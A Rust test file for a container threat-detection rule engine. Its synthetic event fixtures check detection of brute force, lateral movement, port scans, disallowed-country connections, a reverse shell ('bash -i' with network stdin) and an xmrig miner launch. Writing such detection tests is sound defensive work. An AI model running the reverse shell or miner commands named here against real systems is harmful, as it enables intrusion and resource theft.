
#[test]
fn brute_force_then_lateral_movement() {
    let r = "Brute force then lateral movement";
    let mut events: Vec<Event> = (0..5)
        .map(|i| B::auth(AuthOutcome::Failure, "198.51.100.7").at(i).build())
        .collect();
    events.push(B::auth(AuthOutcome::Success, "198.51.100.7").at(10).build());
    let lateral = B::connect("10.0.0.5", 22).at(20).build();
    let mut all = events.clone();
    all.push(lateral.clone());
    fires(r, &all);
    // No successful login: no sequence.
    let mut no_success = events[..5].to_vec();
    no_success.push(lateral.clone());
    quiet(r, &no_success);
    // A connection to an ordinary service is not lateral movement.
    let mut web = events.clone();
    web.push(B::connect("10.0.0.5", 443).at(20).build());
    quiet(r, &web);
    // Too late: the window is ten minutes from the first failure.
    let mut late = events.clone();
    late.push(B::connect("10.0.0.5", 22).at(700).build());
    quiet(r, &late);
    // Another container's connection does not continue this container's sequence.
    let mut other = events;
    other.push(
        B::connect("10.0.0.5", 22)
            .image("redis:7")
            .at(20)
            .build()
            .with_container_id("1234"),
    );
    quiet(r, &other);
}

trait WithContainerId {
    fn with_container_id(self, id: &str) -> Event;
}

impl WithContainerId for Event {
    fn with_container_id(mut self, id: &str) -> Event {
        let mut c = self.container.as_deref().cloned().expect("container");
        c.id = id.repeat(16);
        self.container = Some(Arc::new(c));
        self
    }
}

#[test]
fn network_scan_from_container() {
    let r = "Network scan from container";
    let scan: Vec<Event> = (0..20)
        .map(|i| {
            B::connect("10.0.0.9", 20 + i as u16)
                .at(i)
                .result(-111)
                .build()
        })
        .collect();
    fires(r, &scan);
    assert_eq!(count(r, &scan), 1);
    quiet(r, &scan[..19]);
    let same: Vec<Event> = (0..50)
        .map(|i| B::connect("10.0.0.9", 5432).at(i).build())
        .collect();
    quiet(r, &same);
    let slow: Vec<Event> = (0..20)
        .map(|i| B::connect("10.0.0.9", 20 + i as u16).at(i * 10).build())
        .collect();
    quiet(r, &slow);
}

#[test]
fn outbound_connection_to_a_disallowed_country() {
    let r = "Outbound connection to a disallowed country";
    let to = |country: Option<&str>| {
        let country = country.map(str::to_string);
        B::connect("203.0.113.20", 443).net(move |n| n.remote_country = country)
    };
    // Without an allowed list every located connection is outside it.
    fires(r, &[to(Some("DE")).build()]);
    quiet(r, &[to(None).build()]);
    // With the list set in a user file loaded after the defaults.
    let mut loader = Loader::new();
    loader.add_default_rules().expect("defaults");
    loader
        .add_str(
            "local.yaml",
            "- list: allowed_countries\n  items: [DE, FR]\n  override:\n    items: replace\n",
        )
        .expect("user file");
    let rules = loader
        .compile(Options {
            rule_matching: RuleMatching::All,
            ..Options::default()
        })
        .expect("compiles");
    let mut engine = Engine::new(Arc::new(rules));
    let d = fired(
        &mut engine,
        &[to(Some("DE")).build(), to(Some("KP")).build()],
    );
    let hits: Vec<_> = d.iter().filter(|d| d.alert.rule == r).collect();
    assert_eq!(hits.len(), 1);
    assert!(
        hits[0].alert.output.contains("country=KP"),
        "{}",
        hits[0].alert.output
    );
}

#[test]
fn first_matching_rule_wins_by_default() {
    let reverse_shell_in_web_app = B::exec("bash", &["bash", "-i"])
        .proc(|p| p.stdin_type = Some("ipv4".into()))
        .build();
    let mut all = default_engine();
    let both = names(&fired(
        &mut all,
        std::slice::from_ref(&reverse_shell_in_web_app),
    ));
    assert!(both.contains(&"Reverse shell".to_string()));
    assert!(both.contains(&"Shell spawned in container".to_string()));

    let mut loader = Loader::new();
    loader.add_default_rules().expect("defaults");
    let rules = loader.compile(Options::default()).expect("compiles");
    let mut first = Engine::new(Arc::new(rules));
    let one = names(&fired(&mut first, &[reverse_shell_in_web_app]));
    assert_eq!(one, ["Reverse shell"]);
}

#[test]
fn replay_is_deterministic() {
    let mut events: Vec<Event> = (0..12)
        .map(|i| B::auth(AuthOutcome::Failure, "198.51.100.7").at(i).build())
        .collect();
    events.push(B::exec("xmrig", &["xmrig"]).at(20).build());
    let run = || {
        let mut e = default_engine();
        fired(&mut e, &events)
            .into_iter()
            .map(|d| serde_json::to_string(&d.alert).expect("json"))
            .collect::<Vec<_>>()
    };
    let (a, b) = (run(), run());
    assert!(!a.is_empty());
    assert_eq!(a, b);
}

#[test]
fn alerts_are_ocsf_detection_findings() {
    let mut engine = default_engine();
    let d = fired(
        &mut engine,
        &[B::exec("xmrig", &["xmrig", "-o", "x"]).at(1).build()],
    );
    let alert = &d[0].alert;
    let v = serde_json::to_value(alert).expect("json");
    assert_eq!(v["class_uid"], 2004);
    assert_eq!(v["finding_info"]["title"], "Crypto miner launched");
    assert_eq!(v["priority"], "Critical");
    assert_eq!(v["severity_id"], 5);
    assert!(v["tags"]
        .as_array()
        .expect("tags")
        .iter()
        .any(|t| t == "T1496"));
    assert_eq!(v["evidences"][0]["type"], "process.exec");
    assert_eq!(v["output_fields"]["proc.cmdline"], "xmrig -o x");
    assert!(alert.output.starts_with(
        "Crypto miner launched (process=xmrig exe=/usr/bin/xmrig command=xmrig -o x parent=node"
    ));
    assert_eq!(alert.time_ns, support::T0 + SEC);
    assert!(alert.container.is_some() && alert.process.is_some());
}

#[test]
fn every_default_rule_has_mitre_tags_and_tests() {
    let mut loader = Loader::new();
    loader.add_default_rules().expect("defaults");
    let rules = loader.compile(Options::default()).expect("compiles");
    assert!(
        rules.report().cannot_fire.is_empty(),
        "{:?}",
        rules.report().cannot_fire
    );
    assert!(
        rules.report().warnings.is_empty(),
        "{:?}",
        rules.report().warnings
    );
    let source = include_str!("default_rules.rs");
    let mut n = 0;
    for rule in rules.rules() {
        n += 1;
        let tags = rule.tags();
        assert!(
            tags.iter().any(|t| t.starts_with("mitre_")),
            "{}: no MITRE tactic tag",
            rule.name()
        );
        assert!(
            tags.iter().any(|t| t.starts_with('T')
                && t[1..]
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_digit() || c == 'A')),
            "{}: no MITRE technique id",
            rule.name()
        );
        let quoted = format!("{:?}", rule.name());
        let uses = source.matches(&format!("let r = {quoted};")).count();
        assert_eq!(
            uses,
            1,
            "{}: needs one test with fires(..) and quiet(..)",
            rule.name()
        );
        assert!(rule.active(), "{} cannot fire", rule.name());
    }
    assert!(n >= 30, "only {n} default rules");
}
